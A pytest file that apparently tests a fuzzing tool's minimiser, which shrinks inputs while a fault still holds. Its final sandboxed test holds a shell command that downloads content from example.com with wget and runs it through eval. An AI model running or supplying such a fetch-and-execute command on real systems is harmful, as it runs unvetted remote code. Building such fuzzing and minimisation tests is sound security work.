"""The minimiser: the result is small, and what was true stays true."""

from __future__ import annotations

import pytest

from fuzz.minimize import minimize
from fuzz.oracle import PAYLOADS_BY_NAME, Outcome, observe
from fuzz.routes import FETCHES
from tests.fuzz.sandboxed import runner


def test_what_does_not_hold_is_left_alone() -> None:
    """A text without the fault is returned as it is."""
    assert minimize("a b", lambda _: False) == "a b"


def test_only_what_is_needed_stays() -> None:
    """Lines, statements, words and characters are left out."""
    text = "set -e\nx=1; echo 'one two'; bad thing | cat\nif true; then ok; fi\n"

    assert minimize(text, lambda candidate: "bad" in candidate) == "bad"


def test_pairs_are_left_out_together() -> None:
    """A bracket goes with its partner, or the text would not be a program."""
    balanced = "{ ( bad ); }"

    def holds(candidate: str) -> bool:
        return "bad" in candidate and candidate.count("(") == candidate.count(")")

    assert minimize(balanced, holds) == "bad"


def test_whole_parts_stay_whole() -> None:
    """A part that is one thing is not cut, and the first of its kind stands for the others."""
    text = "x y long part z"

    assert minimize(text, lambda c: "part" in c, whole=("short part", "long part")) == "short part"


def test_questions_are_counted() -> None:
    """After the given number of questions the smallest text so far is returned."""
    asked: list[str] = []

    def holds(candidate: str) -> bool:
        asked.append(candidate)
        return "e" in candidate

    found = minimize("abcdefgh" * 30, holds, most_questions=10)

    assert len(asked) <= 10
    assert "e" in found


@pytest.mark.sandbox
@pytest.mark.slow
def test_a_planted_finding() -> None:
    """From a long command that executes what it fetches, the short one is left."""
    command = (
        "cd /tmp; echo start\nif true; then\n  f() { wget -qO- https://example.com/a | tee log; }\n"
        '  x=$(f); for i in 1 2; do case $i in 1) eval "$x";; esac; done\nfi\necho done'
    )

    def executes(candidate: str) -> bool:
        return observe(runner(), "bash", candidate, [PAYLOADS_BY_NAME["word"]]).outcome is Outcome.EXECUTED

    small = minimize(command, executes, whole=FETCHES)

    assert executes(small)
    assert FETCHES[0] in small
    assert len(small) <= len(FETCHES[0]) + 20
